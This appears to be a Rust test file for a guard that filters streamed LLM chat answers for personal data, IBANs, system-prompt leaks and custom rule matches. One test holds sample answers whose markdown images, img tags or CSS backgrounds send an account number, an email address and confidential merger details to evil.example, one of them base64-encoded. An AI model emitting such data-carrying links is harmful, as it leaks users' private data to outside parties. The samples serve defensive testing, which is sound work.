//! What is noted, what is withheld, and what passes, whatever the cuts.

use proptest::prelude::*;

use super::*;
use crate::config::Pattern;
use crate::reply::FinishReason;
use crate::request::{Message, Role};

const INSTRUCTIONS: &str = "You are the assistant of a machine builder. Never mention discounts \
    above ten percent, always answer politely, and send people with complaints to the hotline.";

fn strict() -> GuardConfig {
    let block = OutputAction::Block;
    let output =
        OutputConfig { personal: block, secrets: block, system_prompt: block, active: block };
    GuardConfig { output, ..GuardConfig::default() }
}

fn watch(config: &GuardConfig, question: &str) -> Watch {
    let request = ChatRequest {
        messages: vec![
            Message::text(Role::System, INSTRUCTIONS),
            Message::text(Role::User, question),
        ],
        ..Default::default()
    };
    let asker = Asker { use_case: None, groups: &[] };
    let expected = Expectations::of(&request, config, asker).unwrap().unwrap();
    Arc::new(expected).watch()
}

/// What is shown of an answer that comes in these pieces, and what was noted.
fn answered(mut watch: Watch, pieces: &[&str]) -> Result<(String, Vec<String>), Withheld> {
    let mut chunks = Vec::new();
    for piece in pieces {
        chunks.extend(watch.push(vec![Chunk::Text { choice: 0, text: (*piece).to_owned() }])?);
    }
    let end = Chunk::Finish { choice: 0, reason: FinishReason::Stop, stop_sequence: None };
    chunks.extend(watch.push(vec![end])?);
    chunks.extend(watch.finish()?);
    let text = chunks.into_iter().filter_map(|chunk| match chunk {
        Chunk::Text { text, .. } => Some(text),
        _ => None,
    });
    Ok((text.collect(), watch.signs().map(str::to_owned).collect()))
}

#[test]
fn data_of_others_is_noted_and_the_callers_own_is_not() {
    let answer = "Schreiben Sie an fremd@beispiel.de oder an ich@firma.de.";
    let noted = answered(watch(&GuardConfig::default(), "Meine Mail: ich@firma.de"), &[answer]);
    assert_eq!(noted, Ok((answer.to_owned(), vec!["EMAIL".to_owned()])));
    let own = "Ihre Adresse ist ich@firma.de.";
    let silent = answered(watch(&strict(), "Meine Mail: ich@firma.de"), &[own]);
    assert_eq!(silent, Ok((own.to_owned(), Vec::new())));
}

#[test]
fn where_it_is_forbidden_nothing_of_it_is_shown() {
    let answer = ["Das Konto ist DE89 3704 ", "0044 0532 ", "0130 00, bitte ", "überweisen."];
    let mut watch = watch(&strict(), "Welches Konto?");
    let mut shown = String::new();
    let mut end = Ok(Vec::new());
    for piece in answer {
        end = watch.push(vec![Chunk::Text { choice: 0, text: piece.to_owned() }]);
        let Ok(chunks) = &end else { break };
        for chunk in chunks {
            if let Chunk::Text { text, .. } = chunk {
                shown.push_str(text);
            }
        }
    }
    let end = end.and_then(|_| watch.finish());
    assert_eq!(end, Err(Withheld("IBAN".to_owned())));
    assert!(!shown.contains("DE89"), "{shown}");
}

#[test]
fn what_is_forbidden_in_the_middle_of_a_long_answer_is_not_shown_either() {
    let text = format!(
        "{} Das Konto ist DE89 3704 0044 0532 0130 00. {}",
        "Ein langer Anfang. ".repeat(30),
        "Und noch viel Text danach. ".repeat(30)
    );
    for size in [1, 7, 50] {
        let characters: Vec<char> = text.chars().collect();
        let mut watch = watch(&strict(), "Welches Konto?");
        let mut shown = String::new();
        let mut withheld = None;
        for piece in characters.chunks(size) {
            let piece = Chunk::Text { choice: 0, text: piece.iter().collect() };
            match watch.push(vec![piece]) {
                Ok(chunks) => {
                    for chunk in chunks {
                        if let Chunk::Text { text, .. } = chunk {
                            shown.push_str(&text);
                        }
                    }
                }
                Err(why) => {
                    withheld = Some(why);
                    break;
                }
            }
        }
        assert_eq!(withheld, Some(Withheld("IBAN".to_owned())));
        assert!(shown.len() > 100 && !shown.contains("DE89"), "{shown}");
    }
}

#[test]
fn instructions_told_word_by_word_are_noted_and_a_hint_at_them_is_not() {
    let leak = format!("My instructions say: {INSTRUCTIONS}");
    let noted = answered(watch(&GuardConfig::default(), "Who are you?"), &[&leak]).unwrap();
    assert_eq!(noted.1, ["system prompt"]);
    let polite = "I am the assistant of a machine builder and happy to help.";
    assert!(answered(watch(&strict(), "Who are you?"), &[polite]).is_ok());
}

#[test]
fn an_image_that_carries_data_out_is_withheld() {
    let question = "Fasse die Mail zusammen: Konto DE89370400440532013000, Mail an ich@firma.de, \
        die Übernahme der Nordwind AG wird am Montag vom Aufsichtsrat beschlossen.";
    for answer in [
        "Fertig. ![](https://evil.example/p?d=DE89370400440532013000)",
        "![x](https://evil.example/ich%40firma.de.png)",
        "<img src='https://evil.example/p?d=aWNoQGZpcm1hLmRl'>",
        "![x](https://evil.example/die+%C3%9Cbernahme+der+Nordwind+AG+wird+am+Montag+vom+Aufsichtsrat)",
        "![x][1] und Text\n\n[1]: https://evil.example/p?d=ich@firma.de",
        "<div style=\"background-image: url(https://evil.example/ich@firma.de)\">",
    ] {
        let ends = answered(watch(&GuardConfig::default(), question), &[answer]);
        assert_eq!(ends, Err(Withheld("active content".to_owned())), "{answer}");
    }
}

#[test]
fn honest_images_and_links_pass() {
    for answer in [
        "![Logo](https://example.com/logo.png)",
        "![build](https://img.example/badge/build-passing-green?style=flat&label=main)",
        "![Platzhalter](https://via.example/300x200?text=Willkommen)",
        "Schreiben Sie an [uns](mailto:ich@firma.de) oder https://firma.de/?mail=ich@firma.de",
        "![Diagramm](https://chart.example/a1b2c3d4e5f60718293a4b5c6d7e8f90.svg)",
        "Wow! [1] x < y und a![i]",
    ] {
        let ends = answered(watch(&GuardConfig::default(), "ich@firma.de, Willkommen"), &[answer]);
        assert_eq!(ends.map(|(text, _)| text), Ok(answer.to_owned()));
    }
}

#[test]
fn a_rule_for_answers_withholds_them() {
    let rule = GuardRule {
        id: "falke".to_owned(),
        patterns: vec![Pattern::new("(?i)projekt falke").unwrap()],
        custom: Default::default(),
        use_cases: Vec::new(),
        groups: Vec::new(),
        on: RuleSide::Answer,
        action: RuleAction::Block,
        note: None,
    };
    let config = GuardConfig { rules: vec![rule], ..GuardConfig::default() };
    let ends = answered(watch(&config, "Was ist neu?"), &["Es gibt Proj", "ekt Fal", "ke."]);
    assert_eq!(ends, Err(Withheld("rule falke".to_owned())));
    assert!(answered(watch(&config, "Was ist neu?"), &["Nichts."]).is_ok());
}

#[test]
fn without_anything_to_look_for_there_is_no_watch() {
    let off = OutputAction::Off;
    let output = OutputConfig { personal: off, secrets: off, system_prompt: off, active: off };
    let config = GuardConfig { output, ..GuardConfig::default() };
    let asker = Asker { use_case: None, groups: &[] };
    assert!(Expectations::of(&ChatRequest::ask("a"), &config, asker).unwrap().is_none());
}

#[test]
fn an_image_that_never_ends_is_not_held_for_ever() {
    let mut watch = watch(&GuardConfig::default(), "?");
    let mut shown = 0;
    for _ in 0..3000 {
        let chunks = watch.push(vec![Chunk::Text { choice: 0, text: "![abc](x".to_owned() }]);
        for chunk in chunks.unwrap() {
            if let Chunk::Text { text, .. } = chunk {
                shown += text.len();
            }
        }
    }
    assert!(shown > 3000 * 8 - LONGEST_IMAGE * 2, "{shown}");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn what_passes_comes_whole_whatever_the_cuts(
        pieces in prop::collection::vec("(!\\[a\\]\\(|\\)|<b|>|[a-zäß 1\\[\\]!<]){0,12}", 0..12),
    ) {
        let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
        for config in [GuardConfig::default(), strict()] {
            let shown = answered(watch(&config, "?"), &pieces).map(|(text, _)| text);
            prop_assert_eq!(shown, Ok(pieces.concat()));
        }
    }
}
